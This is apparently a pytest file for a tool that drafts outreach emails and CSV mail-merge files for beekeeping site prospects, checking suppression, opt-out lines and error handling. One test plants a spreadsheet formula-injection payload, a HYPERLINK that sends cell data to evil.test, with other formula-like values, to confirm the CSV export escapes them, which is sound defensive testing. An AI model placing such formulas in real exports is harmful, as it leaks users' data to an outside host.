"""`prospector drafts`: one .eml per eligible JV prospect that parses back with To,
Subject and a body naming the site and its hook; none to a suppressed, cooled-down or
no_mail contact; a CSV without a formula-like cell; one line for each bad input."""

from __future__ import annotations

import csv
import email
import email.policy
from pathlib import Path
from typing import Any

import pytest

from prospector.models import Candidate, Contact, FetchedPage, PageFacts
from prospector.outreach.drafts import site_name
from prospector.report.export import FORMULA_STARTS
from prospector.sampleweb.mail import DnsServer
from prospector.score import rescore
from prospector.store.db import Store
from tests.conftest import run_cli
from tests.dns_server import crawled_db, dns, fresh_copy

__all__ = ["crawled_db", "dns"]

SENDER = """[sender]
name = "Sam Sender"
address = "sam@hive-tools.test"
site = "Hive Tools"
offer = "We make frame grips for small apiaries and would send you one to review."
"""


@pytest.fixture
def config(tmp_path: Path) -> Path:
    path = tmp_path / "prospector.toml"
    path.write_text(SENDER)
    return path


def _prepare(db: Path, server: DnsServer) -> tuple[str, str]:
    """Verify the DB's addresses, then suppress the best address of one JV prospect and
    mark another contacted; returns (suppressed address, cooled-down site)."""
    done = run_cli("verify", "--db", str(db), "--resolver", server.address, "--timeout", "1")
    assert done.returncode == 0, done.stderr
    with Store.open(db, read_only=True) as store:
        addresses = store.site_addresses()
        jv = [r["domain"] for r in store.draft_prospects("jv")]
    with_mail = [d for d in jv if any(a["deliverability"] == "deliverable"
                                      for a in addresses.get(d, []))]
    suppressed = str(addresses[with_mail[0]][0]["value"])
    cooled = with_mail[1]
    assert run_cli("suppress", suppressed, "--db", str(db)).returncode == 0
    assert run_cli("outreach", cooled, "--status", "contacted", "--db", str(db)).returncode == 0
    return suppressed, cooled


def _eligible(db: Path) -> dict[str, dict[str, Any]]:
    """JV prospects with a found address that is neither suppressed (those are deleted)
    nor no_mail, and not already written to for a higher-ranked site."""
    eligible, used = {}, set()
    with Store.open(db, read_only=True) as store:
        addresses = store.site_addresses()
        for row in store.draft_prospects("jv"):
            usable = [a["value"] for a in addresses.get(row["domain"], [])
                      if a["deliverability"] != "no_mail"]
            if usable and usable[0] not in used:
                eligible[row["domain"]] = row
                used.add(usable[0])
    return eligible


def test_one_eml_per_eligible_jv_prospect(crawled_db: Path, dns: DnsServer, config: Path,
                                          tmp_path: Path) -> None:
    db = fresh_copy(crawled_db, tmp_path)
    suppressed, cooled = _prepare(db, dns)
    eligible = _eligible(db)
    out = tmp_path / "drafts"
    done = run_cli("drafts", "--db", str(db), "--out", str(out), "--config", str(config))
    assert done.returncode == 0, done.stderr
    files = sorted(out.glob("*.eml"))
    with Store.open(db, read_only=True) as store:
        checks = {c["address"]: c["deliverability"] for c in store.contact_checks()}
        counts = store.pipeline_counts()
    sent_to, hooks = set(), {}
    for path in files:
        msg = email.message_from_bytes(path.read_bytes(), policy=email.policy.default)
        domain = path.stem.split("-", 1)[1]
        body = msg.get_content()  # type: ignore[attr-defined]
        assert domain in eligible, f"a draft for {domain}, which is not eligible: {msg['To']}"
        row = eligible[domain]
        assert msg["To"] and msg["Subject"] and msg["From"] == "Sam Sender <sam@hive-tools.test>"
        assert site_name(row) in body, (path.name, body)
        hook = _hook_words(row)
        assert hook in body, (path.name, hook, body)
        assert "no thanks" in body  # the opt-out line
        hooks[domain] = hook
        sent_to.add(str(msg["To"].addresses[0].addr_spec))
    kinds = {k: sum(1 for d in hooks if _hook_kind(eligible[d]) == k) for k in
             ("post", "deal", "links", "site")}
    print(f"\ndrafts: {len(files)} .eml files for {len(eligible)} eligible JV prospects "
          f"(hooks: {kinds}); to a suppressed address: {int(suppressed in sent_to)}, to the "
          f"cooled-down site: {sum(a.endswith('@' + cooled) for a in sent_to)}, to a no_mail "
          f"address: {sum(checks.get(a) == 'no_mail' for a in sent_to)}; {done.stdout.strip()}")
    assert len(files) == len(eligible) >= 10 and {p.stem.split("-", 1)[1] for p in files} == set(eligible)
    assert suppressed not in sent_to and cooled not in eligible
    assert not any(checks.get(a) == "no_mail" for a in sent_to)
    assert counts["drafted"] == len(files) and counts["contacted"] == 1


def _hook_kind(row: dict[str, Any]) -> str:
    if row.get("latest_post"):
        return "post"
    if row.get("deal_signals"):
        return "deal"
    return "links" if row.get("linked_from") else "site"


def _hook_words(row: dict[str, Any]) -> str:
    """What the body must quote of the site: its latest post's title, or a linking site
    (a deal signal is a fixed sentence: its name is checked through the kind)."""
    kind = _hook_kind(row)
    if kind == "post":
        return str(row["latest_post"]).strip()
    if kind == "deal":
        return "I saw"
    return str(row["linked_from"][0]) if kind == "links" else site_name(row)


EVIL = '=HYPERLINK("http://evil.test/?"&A1,"click")'


def _evil_db(path: Path) -> None:
    """Scraped text that starts like a formula in every column a draft carries."""
    sites = [("evil.test", EVIL, "newsletter", "@SUM(A1) Person",
              Contact("email", "-cmd@evil.test", "http://evil.test/", "text", 0.9, "personal")),
             ("plus.test", "+1 Bees", "blog", "=Jo Plus",
              Contact("email", "jo@plus.test", "http://plus.test/", "text", 0.9, "personal"))]
    with Store.open(path) as store:
        run = store.start_run("beekeeping", "{}")
        store.add_candidates(run, [Candidate(f"http://{d}/", d, "seed") for d, *_ in sites])
        store.add_pages(run, [
            FetchedPage(d, f"http://{d}/", 200, "text/html", 1,
                        PageFacts(url=f"http://{d}/", domain=d, title=t, text="beekeeping",
                                  kind=k, names=(n,), contacts=(c,)))
            for d, t, k, n, c in sites])
        store.finish_run(run, "done")
        rescore(store)


def test_csv_has_no_formula_like_cell(config: Path, tmp_path: Path) -> None:
    db = tmp_path / "evil.duckdb"
    _evil_db(db)
    out = tmp_path / "merge"
    done = run_cli("drafts", "--db", str(db), "--out", str(out), "--config", str(config),
                   "--format", "csv")
    assert done.returncode == 0, done.stderr
    with open(out / "drafts.csv", encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    cells = [c for r in rows[1:] for c in r]
    bad = [c for c in cells if c.startswith(FORMULA_STARTS)]
    guarded = [c for c in cells if c.startswith("'") and c[1:].startswith(FORMULA_STARTS)]
    print(f"\ndrafts csv: {len(rows) - 1} rows, {len(cells)} cells, {len(guarded)} guarded "
          f"with a leading apostrophe, {len(bad)} formula-like")
    assert rows[0] == ["to", "name", "subject", "body", "site", "hook"]
    assert len(rows) == 3 and not bad and len(guarded) >= 4


@pytest.mark.parametrize(("setup", "code", "words"), [
    ("no-config", 2, "[sender]"),
    ("no-sender", 2, "[sender]"),
    ("half-sender", 2, "missing address"),
    ("unwritable", 2, "cannot create"),
    ("out-is-file", 2, "is a file"),
    ("bad-template", 2, "template"),
    ("missing-db", 3, "no database"),
])
def test_bad_inputs_are_one_line(setup: str, code: int, words: str, config: Path,
                                 tmp_path: Path) -> None:
    db = tmp_path / "evil.duckdb"
    _evil_db(db)
    args = ["drafts", "--db", str(db), "--out", str(tmp_path / "out"), "--config", str(config)]
    if setup == "no-config":
        args = args[:-2]
    elif setup in ("no-sender", "half-sender"):
        config.write_text("" if setup == "no-sender" else SENDER.replace(
            'address = "sam@hive-tools.test"\n', ""))
    elif setup == "unwritable":
        args[4] = "/proc/prospector-drafts"  # no one, root included, may create it there
    elif setup == "out-is-file":
        (tmp_path / "out").write_text("x")
    elif setup == "bad-template":
        template = tmp_path / "t.j2"
        template.write_text("Subject: {{ site_name }\n\nHi")
        args += ["--template", str(template)]
    elif setup == "missing-db":
        args[2] = str(tmp_path / "none.duckdb")
    done = run_cli(*args)
    assert done.returncode == code, done.stderr
    assert len(done.stderr.strip().splitlines()) == 1 and words in done.stderr, done.stderr
    assert "Traceback" not in done.stderr
    if setup != "out-is-file":
        assert not list((tmp_path / "out").glob("*")) if (tmp_path / "out").exists() else True


@pytest.mark.parametrize(("row", "kind", "words"), [
    ({"latest_post": "Winter feeding", "deal_signals": "write_for_us"}, "post", "Winter feeding"),
    ({"deal_signals": "shop, write_for_us"}, "deal", "I saw your shop"),
    ({"deal_signals": "write_for_us"}, "deal", "accept guest posts"),
    ({"readers": 12000}, "readers", "reaches 12,000 readers"),
    ({"linked_from": ["a.test", "b.test", "c.test"]}, "links", "through a.test and b.test"),
    ({"title": "Hive Notes - a blog"}, "site", "reading Hive Notes"),
])
def test_hooks(row: dict[str, Any], kind: str, words: str) -> None:
    from prospector.outreach.drafts import hook_for

    found = hook_for({"domain": "x.test", **row})
    assert found[0] == kind and words in found[1]


@pytest.mark.parametrize(("names", "address", "role", "greeting"), [
    (["Jane Doe"], "jane.doe@x.test", "personal", "Jane Doe"),
    (["Tom Hill", "Jane Doe"], "jane@x.test", "personal", "Jane Doe"),
    (["Jane Doe"], "info@x.test", "role", ""),
    (["Jane Doe"], "tom@x.test", "personal", ""),  # someone else's address
    ([], "jane@x.test", "personal", ""),
])
def test_contact_name(names: list[str], address: str, role: str, greeting: str) -> None:
    from prospector.outreach.drafts import contact_name

    assert contact_name(names, address, role) == greeting
